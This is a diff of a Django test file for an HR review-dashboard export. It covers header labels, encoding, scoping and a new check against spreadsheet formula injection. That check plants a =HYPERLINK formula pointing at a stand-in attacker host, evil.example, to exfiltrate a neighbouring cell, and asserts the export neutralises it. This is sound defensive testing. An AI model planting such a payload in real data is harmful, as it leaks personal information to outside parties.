@@ -47,21 +47,42 @@ def test_the_export_respects_the_exporters_scope_and_carries_no_free_text(web, o
     Review.objects.create(cycle=released.cycle, person=sales_person, manager=org.outsider, unit=org.sales,
                           state=Review.State.RELEASED, preliminary_rating=2)
     admin_csv = web(org.hr_admin).get(reverse("reviews:dashboard_export", args=[released.cycle_id, "csv"]))
-    rows = list(csv.DictReader(io.StringIO(admin_csv.content.decode())))
-    names = {row["name"] for row in rows}
+    assert admin_csv.content.startswith("\ufeff".encode())  # Excel reads the file as UTF-8
+    rows = list(csv.DictReader(io.StringIO(admin_csv.content.decode("utf-8-sig"))))
+    names = {row["Name"] for row in rows}
     assert {"Emil Employee", "Sal Seller"} <= names
-    employee = next(row for row in rows if row["name"] == "Emil Employee")
-    assert employee["final_rating"] == "4" and employee["preliminary_rating"] == "3" and employee["calibrated"] == "yes"
-    body = admin_csv.content.decode()
+    employee = next(row for row in rows if row["Name"] == "Emil Employee")
+    assert employee["Final rating"] == "4" and employee["Preliminary rating"] == "3" and employee["Calibrated"] == "yes"
+    assert employee["State"] == "Released" and employee["Skipped steps"] == ""
+    body = admin_csv.content.decode("utf-8-sig")
     assert "calibrated" not in {v for row in rows for v in row.values() if v != "yes"}  # no calibration reason
     assert "Good work" not in body and "Solid" not in body
     # The HR partner of Engineering exports Engineering only.
     partner = web(org.hr_partner).get(reverse("reviews:dashboard_export", args=[released.cycle_id, "xlsx"]))
     sheet = load_workbook(io.BytesIO(partner.content)).active
     values = [[c.value for c in row] for row in sheet.iter_rows()]
-    assert values[0][:3] == ["person_id", "name", "email"]
+    assert values[0][:3] == ["Person id", "Name", "Email"]
+    assert sheet.freeze_panes == "A2"
+    row = next(r for r in values[1:] if r[1] == "Emil Employee")
+    assert row[0] == org.employee.pk and row[10] == 4  # numbers stay numbers
     names = {row[1] for row in values[1:]}
     assert "Emil Employee" in names and "Sal Seller" not in names
+
+
+def test_the_export_speaks_the_readers_language_and_runs_no_formula(web, org, released):
+    org.employee.full_name = '=HYPERLINK("https://evil.example/?"&B3,"click")'
+    org.employee.save(update_fields=["full_name"])
+    client = web(org.hr_admin)
+    client.cookies["django_language"] = "ru"
+    body = client.get(reverse("reviews:dashboard_export", args=[released.cycle_id, "csv"])).content.decode("utf-8-sig")
+    header = next(csv.reader(io.StringIO(body)))
+    assert "Руководитель" in header and "Manager" not in header, header
+    assert "'=HYPERLINK(" in body and ',=HYPERLINK' not in body
+    sheet = load_workbook(io.BytesIO(web(org.hr_admin).get(
+        reverse("reviews:dashboard_export", args=[released.cycle_id, "xlsx"])).content)).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert any(str(c.value).startswith("=HYPERLINK(") and c.data_type == "s" for c in cells)  # text, not a formula
 
 
 def test_overdue_tasks_get_a_one_click_reminder(web, org, cycle, django_capture_on_commit_callbacks):
